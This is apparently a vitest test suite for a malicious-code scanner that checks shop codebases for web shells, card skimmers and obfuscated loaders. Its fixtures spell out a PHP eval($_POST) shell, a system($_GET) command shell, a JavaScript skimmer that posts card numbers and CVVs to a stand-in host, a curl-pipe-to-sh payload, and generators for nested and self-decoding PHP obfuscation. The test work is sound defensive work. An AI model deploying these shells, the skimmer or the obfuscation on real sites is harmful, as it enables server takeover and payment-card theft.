// The malicious-code check as the pass drives it: where it reads (everywhere: first-party
// code, vendor/, node_modules/, built trees, templates, .htaccess, files that hide PHP
// under other names), how much (whole up to 8 MiB, else head and tail, and it says so),
// in which encodings, and what a finding carries (rule, file, line, a redacted excerpt,
// a severity by family), never the payload.
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { MaliciousCodeCheck } from '../../../src/checks/malicious-code/malicious-code.js';
import { offerAll, ruleAndPath, runContentCheck } from '../unit/run-check.js';

const SHELL = `<?php if (isset($_POST['x'])) { eval($_POST['x']); }\n`;
const SKIMMER = `setInterval(function(){var n=document.getElementById('cc_number').value;var c=document.getElementById('cvv').value;if(n.length>=15){fetch('https://jquery-cdn.test/g.php',{method:'POST',body:btoa(n+'|'+c)})}},500);\n`;
/** A long opaque payload that must never reach a report. */
const PAYLOAD = Buffer.from('system("curl -s https://drop.test/x | sh"); '.repeat(20)).toString('base64');

const STD = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const CUSTOM = 'zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210/+';

/** `eval(gzinflate(base64_decode('…')))` of this code, nested `depth` times. */
function encodeChain(code: string, depth: number): string {
  let text = code;
  for (let i = 0; i < depth; i++) text = `eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from(text, 'latin1')).toString('base64')}')));`;
  return `<?php ${text}`;
}

/** A file that decodes its own tail (the shape of a freely available PHP obfuscator): header, stage 2, payload. */
function selfReading(code: string): string {
  const swap = (text: string): string => text.replace(/[A-Za-z0-9+/]/g, (c) => CUSTOM[STD.indexOf(c)] ?? c);
  const payload = swap(Buffer.from(code, 'latin1').toString('base64'));
  const stage2 = swap(Buffer.from('$x=str_replace(1,2,3);eval($x);', 'latin1').toString('base64'));
  const build = (skip: number): string => {
    const stage1 = Buffer.from(`$f=$o($p,'rb');$r($f,0x${skip.toString(16)});$c=$d($t($r($f,0x${stage2.length.toString(16)}),'${CUSTOM}','${STD}'));eval($c);`).toString('base64');
    return `<?php $p=__FILE__;$n=0x${payload.length.toString(16)};eval($d('${stage1}'));return;?>`;
  };
  let header = build(0);
  // the header names its own length: build it until the number it holds is right
  while (build(header.length).length !== header.length) header = build(header.length);
  header = build(header.length);
  return `${header}${stage2}${payload}`;
}

/** Minified code, about `size` bytes, of nothing but a library's look. */
function bundle(size: number): string {
  const piece = 'function a(b,c){return b.map(function(d){return d+c})}var e=a([1,2,3],4);';
  return piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
}

describe('the malicious-code check', () => {
  it('finds a shell anywhere: app/code, vendor/, node_modules/, pub/static, generated/, a .phtml template', async () => {
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/app/code/Acme/Module/Model/Cache.php', content: SHELL },
      { path: 'shop/vendor/magento/module-catalog/Model/Image.php', content: SHELL },
      { path: 'storefront/node_modules/left-pad/lib/x.php', content: SHELL },
      { path: 'shop/pub/static/frontend/Magento/luma/en_US/js/checkout.js', content: SKIMMER },
      { path: 'shop/generated/code/Magento/Framework/App/Interceptor.php', content: SHELL },
      { path: 'shop/app/design/frontend/Acme/theme/Magento_Theme/templates/footer.phtml', content: `<div>footer</div>\n${SHELL}` },
      { path: 'storefront/.next/static/chunks/pages/checkout.js', content: SKIMMER },
      { path: 'storefront/dist/app.min.js', content: SKIMMER },
    ]);
    expect(ruleAndPath(findings)).toEqual(
      [
        'php-request-to-code-sink shop/app/code/Acme/Module/Model/Cache.php',
        'php-request-to-code-sink shop/app/design/frontend/Acme/theme/Magento_Theme/templates/footer.phtml',
        'php-request-to-code-sink shop/generated/code/Magento/Framework/App/Interceptor.php',
        'js-payment-fields-sent-away shop/pub/static/frontend/Magento/luma/en_US/js/checkout.js',
        'php-request-to-code-sink shop/vendor/magento/module-catalog/Model/Image.php',
        'js-payment-fields-sent-away storefront/.next/static/chunks/pages/checkout.js',
        'js-payment-fields-sent-away storefront/dist/app.min.js',
        'php-request-to-code-sink storefront/node_modules/left-pad/lib/x.php',
      ].sort(),
    );
    expect(findings.every((finding) => finding.kind === 'malicious-code' && finding.severity === 'critical')).toBe(true);
  });

  it('names the rule, the line and a short excerpt; one finding per file, its other rules in the detail', async () => {
    const [finding, ...rest] = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/app/code/Acme/Module/Model/Cache.php', content: `<?php\n// a comment\n\n${SHELL.slice(6)}$c = base64_decode($blob);\neval($c);\n` },
    ]);
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({ kind: 'malicious-code', rule: 'php-request-to-code-sink', severity: 'critical', line: 4, path: 'shop/app/code/Acme/Module/Model/Cache.php' });
    expect(finding?.excerpt).toMatch(/eval\(\$_POST\['x'\]\)/);
    expect(finding?.excerpt?.length).toBeLessThanOrEqual(80);
    expect(finding?.title).toMatch(/^Web shell: /);
    expect(finding?.detail).toMatch(/line 4: .*also matches .*php-decoder-to-code-sink \(line 6\).*see /);
  });

  it('ranks an obfuscated loader high, and auto_prepend_file in first-party config medium', async () => {
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/lib/internal/Loader.php', content: `<?php eval(gzinflate(base64_decode('8yzKLEnNLVYoSS0uAQA=')));\n` },
      { path: 'shop/pub/.htaccess', content: `Options -Indexes\nphp_value auto_prepend_file /var/www/shop/pub/media/logo.jpg\n` },
      { path: 'shop/.user.ini', content: `auto_prepend_file = "/tmp/.sess.php"\n` },
    ]);
    expect(findings.map((finding) => `${finding.severity} ${finding.rule ?? ''} ${finding.path ?? ''} ${finding.line ?? ''}`).sort()).toEqual([
      'high php-decoder-to-code-sink shop/lib/internal/Loader.php 1',
      'medium config-auto-prepend shop/.user.ini 1',
      'medium config-auto-prepend shop/pub/.htaccess 2',
    ]);
  });

  it('never echoes a payload: the excerpt elides long tokens, the title and detail quote none', async () => {
    const findings = await runContentCheck(new MaliciousCodeCheck(), [{ path: 'shop/app/code/Acme/X.php', content: `<?php eval(base64_decode('${PAYLOAD}'));\n` }]);
    expect(findings).toHaveLength(1);
    const text = JSON.stringify(findings);
    expect(text).not.toContain(PAYLOAD.slice(0, 24));
    expect(text).not.toContain('drop.test');
    expect(findings[0]?.excerpt).toMatch(/‹\d+›/);
  });

  it('reads PHP hidden under other names: an image with a PHP body, an extensionless file, a .txt', async () => {
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/pub/media/catalog/product/cache/x.jpg', content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), Buffer.from(`JFIF\0${SHELL}`, 'latin1')]) },
      { path: 'shop/pub/media/wysiwyg/cache', content: SHELL },
      { path: 'shop/var/tmp/notes.txt', content: SHELL },
      // a real image and real text are not read as code
      { path: 'shop/pub/media/logo.png', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0x65, 0x76, 0x61, 0x6c]) },
      { path: 'shop/README.txt', content: 'Run eval($_POST) never: this is documentation.\n' },
    ]);
    expect(ruleAndPath(findings)).toEqual([
      'php-request-to-code-sink shop/pub/media/catalog/product/cache/x.jpg',
      'php-request-to-code-sink shop/pub/media/wysiwyg/cache',
      'php-request-to-code-sink shop/var/tmp/notes.txt',
    ]);
  });

  it('decodes UTF-16 text, and reads a source map by the sources it embeds', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SHELL, 'utf16le')]);
    const map = JSON.stringify({ version: 3, sources: ['webpack:///src/checkout.js'], sourcesContent: [`// checkout\n${SKIMMER}`], mappings: 'AAAA' });
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/app/code/Acme/Win.php', content: utf16 },
      { path: 'storefront/.next/static/chunks/main.js.map', content: map },
    ]);
    expect(ruleAndPath(findings)).toEqual(['js-payment-fields-sent-away storefront/.next/static/chunks/main.js.map', 'php-request-to-code-sink shop/app/code/Acme/Win.php']);
    expect(findings.find((finding) => finding.path?.endsWith('.map'))?.detail).toMatch(/embedded source webpack:\/\/\/src\/checkout\.js/);
  });

  it('reads a large bundle by its head and its tail, finds a skimmer appended past 8 MiB, and says what went unread', async () => {
    const big = `${bundle(12 * 1024 * 1024)};${SKIMMER}`;
    const result = await offerAll(new MaliciousCodeCheck(), [{ path: 'shop/pub/static/frontend/Magento/luma/en_US/js/bundle.min.js', content: big }]);
    expect((result.findings ?? []).map((finding) => finding.rule)).toEqual(['js-payment-fields-sent-away']);
    expect(result.findings?.[0]?.detail).toMatch(/at byte \d+ \(in the file's last part\)/);
    expect(result.notes).toEqual([expect.stringMatching(/bundle\.min\.js \(12\.0 MiB\) was read in part: its first 4\.0 MiB and its last 4\.0 MiB; 4\.0 MiB in between were not scanned/)]);
  });

  it('unwraps nested eval chains and self-reading encoders: plain code hidden that way is let go, a shell is not', async () => {
    const plain = `class Acme_License_Helper_Data extends Mage_Core_Helper_Abstract { public function isValid($key) { return strlen($key) === 32; } }`;
    const shell = `if (isset($_GET['c'])) { echo '<pre>'; system($_GET['c']); echo '</pre>'; }`;
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/app/code/local/Acme/License/Helper/Data.php', content: encodeChain(plain, 12) },
      { path: 'shop/app/code/local/Acme/License/Helper/Other.php', content: selfReading(plain) },
      { path: 'shop/app/code/local/Acme/License/Model/Cron.php', content: encodeChain(shell, 12) },
      { path: 'shop/app/code/local/Acme/License/Model/Check.php', content: selfReading(shell) },
    ]);
    expect(ruleAndPath(findings)).toEqual(['php-request-to-command shop/app/code/local/Acme/License/Model/Check.php', 'php-request-to-command shop/app/code/local/Acme/License/Model/Cron.php']);
    expect(findings.map((finding) => finding.detail)).toEqual([expect.stringMatching(/inside a selfread layer/), expect.stringMatching(/inside a chain layer/)]);
  });

  it('finds a skimmer appended after thousands of ordinary occurrences of its literals in a bundle', async () => {
    const ordinary = "var f=document.getElementById('qty').value;fetch('/rest/V1/carts/mine/items',{method:'POST',body:f});\n".repeat(3000);
    const findings = await runContentCheck(new MaliciousCodeCheck(), [{ path: 'shop/pub/static/frontend/Acme/theme/en_US/js/bundle.min.js', content: `${ordinary}${SKIMMER}` }]);
    expect(ruleAndPath(findings)).toEqual(['js-payment-fields-sent-away shop/pub/static/frontend/Acme/theme/en_US/js/bundle.min.js']);
    expect(findings[0]?.line).toBe(3001);
  });

  it('leaves out what never runs and repeats what is read elsewhere: type declarations, dependencies\' TypeScript sources and source maps', async () => {
    const map = JSON.stringify({ version: 3, sources: ['../src/index.ts'], sourcesContent: [SKIMMER] });
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'storefront/src/types/checkout.d.ts', content: SKIMMER },
      { path: 'storefront/node_modules/left-pad/src/index.ts', content: SKIMMER },
      { path: 'storefront/node_modules/left-pad/dist/index.js.map', content: map },
      { path: 'storefront/node_modules/left-pad/dist/index.js', content: SKIMMER },
    ]);
    expect(ruleAndPath(findings)).toEqual(['js-payment-fields-sent-away storefront/node_modules/left-pad/dist/index.js']);
  });

  it('is quiet on code that uses eval, base64 and remote scripts for a living', async () => {
    const findings = await runContentCheck(new MaliciousCodeCheck(), [
      { path: 'shop/vendor/twig/twig/src/Environment.php', content: `<?php\n$this->loader = $loader;\neval('?>'.$this->compileSource($source));\n` },
      { path: 'shop/app/code/Acme/Pay/Model/Config.php', content: `<?php\n$key = base64_decode($this->scopeConfig->getValue('acme/key'));\n$data = json_decode(base64_decode($_POST['payload']), true);\n` },
      { path: 'shop/pub/static/frontend/js/analytics.js', content: `(function(){var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtag/js?id=G-1';document.head.appendChild(s);})();\n` },
      { path: 'shop/app/code/Acme/Pay/view/frontend/web/js/card.js', content: `const n = document.getElementById('card_number').value; fetch('/rest/V1/acme/pay', {method: 'POST', body: JSON.stringify({n})});\n` },
    ]);
    expect(findings).toEqual([]);
  });
});
